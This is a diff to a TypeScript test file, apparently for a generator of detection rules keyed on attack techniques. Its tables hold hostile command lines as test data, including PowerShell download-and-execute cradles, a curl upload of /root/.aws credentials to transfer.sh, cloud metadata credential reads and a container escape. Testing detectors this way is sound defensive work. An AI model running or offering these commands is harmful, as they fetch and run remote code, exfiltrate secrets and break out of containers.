@@ -151,6 +151,7 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
     'windows',
     'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
   ],
+  ['powershell-download-cradle', 'windows', "irm 'https://relay.example/agent?t=7' | iex"],
   [
     'powershell-download-to-user-folder',
     'windows',
@@ -234,6 +235,7 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['cloud-instance-credentials', 'linux', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role'],
   ['container-exec-shell', 'linux', 'kubectl exec -it api-7d9f -n prod -- /bin/sh'],
   ['container-host-root-mount', 'linux', 'docker run -it -v /:/host alpine chroot /host sh'],
+  ['file-sharing-service', 'linux', 'tar czf - /root/.aws | curl --upload-file - https://transfer.sh/a.tgz'],
   ['internet-scanner', 'linux', 'masscan 10.0.0.0/8 -p6379 --rate 10000'],
   ['net-discovery', 'windows', 'net view \\\\FS02 /all'],
   ['logged-on-user-discovery', 'windows', 'quser'],
@@ -382,6 +384,7 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
     ['linux', 'curl -sk https://quill.example/status | grep -q ok'],
     ['linux', 'base64 -d cert.b64 | sha256sum'],
     ['linux', 'crontab -l'],
+    ['linux', 'bash /opt/ci/temp.sh --dry-run'],
     ['linux', "echo '*/30 * * * * /usr/local/bin/backup' | crontab -"],
     ['linux', 'cat ~/.bash_history'],
     ['windows', '7z.exe x -pSecret C:\\Users\\kim\\Downloads\\photos.7z'],
@@ -415,7 +418,6 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
     ['linux', 'curl -s http://169.254.169.254/latest/meta-data/instance-id'],
     ['windows', 'taskkill /f /im notepad.exe'],
     ['linux', 'ssh -L 8080:localhost:80 ops@10.0.0.5'],
-    ['linux', 'crontab -l'],
   ] as Array<[TemplatePlatform, string]>)('writes no technique rule for the everyday %s command %s', (platform, commandLine) => {
     const titles = generateBuiltinRules({ article, platform, cmdlines: [{ ...item, value: commandLine }] }).map(
       (draft) => draft.rule.title,
